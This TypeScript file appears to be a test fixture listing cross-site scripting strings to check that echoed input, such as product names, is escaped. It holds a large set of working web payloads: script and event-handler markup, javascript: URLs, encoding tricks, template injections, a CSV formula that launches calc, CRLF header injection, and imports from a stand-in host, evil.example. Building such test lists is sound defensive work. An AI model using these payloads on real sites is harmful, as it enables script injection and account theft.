/**
 * Strings by which a page that prints what it was given would run somebody's script: every way to run one, in every way out of
 * the place where text stands, in every disguise. Made here, so that the list says why each is on it.
 */

/** What an intruder wants to happen. */
const payloads = ['alert(1)', 'alert`1`', "top['al'+'ert'](1)", 'self[`alert`](1)', 'import("//evil.example")']

/** Ways to make markup do it. */
const carriers: ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<ScRiPt>${deed}</sCrIpT>`,
  (deed) => `<script/x>${deed}</script>`,
  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
  (deed) => `<img src=x onerror=${deed}>`,
  (deed) => `<img/src=x/onerror=${deed}//`,
  (deed) => `<img src="x" onerror="${deed.replaceAll('"', '&quot;')}">`,
  (deed) => `<svg onload=${deed}>`,
  (deed) => `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) =>
    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='${deed}'>">`,
  (deed) => `<body onload=${deed}>`,
  (deed) => `<details open ontoggle=${deed}>`,
  (deed) => `<input autofocus onfocus=${deed}>`,
  (deed) => `<video><source onerror=${deed}>`,
  (deed) => `<marquee onstart=${deed}>`,
  (deed) => `<iframe srcdoc="<script>${deed.replaceAll('"', '&quot;')}</script>">`,
  (deed) => `<iframe src="javascript:${deed.replaceAll('"', '%22')}">`,
  (deed) => `<object data="javascript:${deed.replaceAll('"', '%22')}">`,
  (deed) => `<a href="javascript:${deed.replaceAll('"', '%22')}">x</a>`,
  (deed) => `<form action="javascript:${deed.replaceAll('"', '%22')}"><button>x</button></form>`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed.replaceAll('"', '%22')}">`,
  (deed) => `<template><script>${deed}</script></template>`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
]

/** Ways out of where the text was meant to stand. */
const exits = ['', '">', "'>", '</title>', '</textarea>', '</script>', '--><!--', '</style>', ']]>', '"/>', '\u2028']

/** What is dangerous as it is: in an address, an attribute, a style, a template, a JSON island or a header. */
const plain = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=`alert(1)',
  '" style="background:url(javascript:alert(1))',
  'expression(alert(1))',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&amp;lt;script&amp;gt;',
  '\\u003cscript\\u003ealert(1)',
  '\\x3cscript\\x3ealert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '<\u200bscript>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '{{$on.constructor("alert(1)")()}}',
  '\u0024{alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '</script><script>alert(1)//',
  '<!--<script>',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/>',
  '\u2028alert(1)\u2029//',
  '\u202e>tpircs<',
  'a\r\nSet-Cookie: x=1',
  '=cmd|"/c calc"!A1',
  '@SUM(1+1)',
  '+1+1',
  '\u{1d56f}<script>',
  'é́<svg onload=alert(1)>',
  '[x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '//evil.example/x.js',
  'https://evil.example/?x=</script>',
]

/** All of them, none longer than a product's name may be and none with spaces around it, which are trimmed. */
export const scriptStrings: readonly string[] = [
  ...new Set([
    ...plain,
    ...carriers.flatMap((carrier) => payloads.map((deed) => carrier(deed))),
    ...carriers.flatMap((carrier) => exits.map((exit) => exit + carrier('alert(1)'))),
  ]),
].filter((text) => text.length <= 160 && text.trim() === text)
